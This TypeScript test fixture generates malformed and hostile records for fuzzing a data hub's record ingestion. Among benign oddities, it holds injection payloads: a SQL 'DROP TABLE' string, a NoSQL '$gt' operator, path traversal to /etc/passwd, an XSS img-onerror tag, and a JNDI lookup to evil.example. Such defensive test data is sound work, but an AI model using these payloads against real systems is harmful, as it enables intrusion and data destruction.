/**
 * Records as broken data entry, broken integrations and attackers send them.
 * Each is one bad input; `storable` marks values that are odd but legitimate
 * data (a name with an apostrophe and SQL in it is still a name), which the
 * hub may store as long as it stores them as data.
 */
export type BadRecord = { kind: string; record: unknown; storable: boolean };

const person = (i: number) => ({ firstName: "Ilse", lastName: `Fuzz${i}`, email: `ilse.fuzz${i}@example.org`, country: "AT" });

const makers: ((id: string, i: number) => BadRecord)[] = [
  (id, i) => ({ kind: "NUL in a value", record: { externalId: id, attributes: { ...person(i), lastName: `Fu\u0000zz${i}` } }, storable: false }),
  (id, i) => ({ kind: "lone surrogate", record: { externalId: id, attributes: { ...person(i), firstName: "Il\ud800se" } }, storable: false }),
  (id, i) => ({ kind: "control characters", record: { externalId: id, attributes: { ...person(i), city: "Wi\u0007en\u001b[2J" } }, storable: false }),
  (id) => ({ kind: "zero-width name", record: { externalId: id, attributes: { firstName: "\u200b\u200c", lastName: "\u200d\ufeff" } }, storable: false }),
  // Direction overrides are stripped at the edge (they spoof how a name reads); what remains is a name.
  (id, i) => ({ kind: "RTL override", record: { externalId: id, attributes: { ...person(i), lastName: "\u202eztiwoR" } }, storable: true }),
  (id, i) => ({ kind: "number for a string", record: { externalId: id, attributes: { ...person(i), phone: 4366412345 } }, storable: false }),
  (id) => ({ kind: "attributes not an object", record: { externalId: id, attributes: "Ilse Fuzz" }, storable: false }),
  (_id, i) => ({ kind: "externalId missing", record: { attributes: person(i) }, storable: false }),
  (_id, i) => ({ kind: "externalId an object", record: { externalId: { $gt: "" }, attributes: person(i) }, storable: false }),
  (id, i) => ({ kind: "unknown attribute", record: { externalId: id, attributes: { ...person(i), isAdmin: "true" } }, storable: false }),
  (id, i) => ({ kind: "over-long value", record: { externalId: id, attributes: { ...person(i), street: "Hauptstraße ".repeat(400) } }, storable: false }),
  (id, i) => ({ kind: "impossible date", record: { externalId: id, attributes: { ...person(i), dateOfBirth: "31/02/1990" } }, storable: true }),
  (id, i) => ({ kind: "birth date in 2999", record: { externalId: id, attributes: { ...person(i), dateOfBirth: "2999-01-01" } }, storable: true }),
  (id, i) => ({ kind: "not an email", record: { externalId: id, attributes: { ...person(i), email: "not an email" } }, storable: true }),
  (id, i) => ({ kind: "unknown country", record: { externalId: id, attributes: { ...person(i), country: "Narnia" } }, storable: true }),
  (id, i) => ({ kind: "SQL in a name", record: { externalId: id, attributes: { ...person(i), lastName: "O'Brien'); DROP TABLE \"GoldenRecord\";--" } }, storable: true }),
  (_id, i) => ({ kind: "path traversal id", record: { externalId: `../../../etc/passwd-${i}`, attributes: person(i) }, storable: true }),
  (id, i) => ({ kind: "markup in a name", record: { externalId: id, attributes: { ...person(i), firstName: "<img src=x onerror=alert(1)>" } }, storable: true }),
  (id, i) => ({ kind: "template injection", record: { externalId: id, attributes: { ...person(i), city: "${jndi:ldap://evil.example/a}{{7*7}}" } }, storable: true }),
  (id, i) => ({ kind: "updatedAt not a date", record: { externalId: id, updatedAt: "yesterday", attributes: person(i) }, storable: false }),
];

/** The `n`th bad record, cycling through every kind. */
export function badRecord(n: number): BadRecord {
  return makers[n % makers.length](`bad-${n}`, n);
}
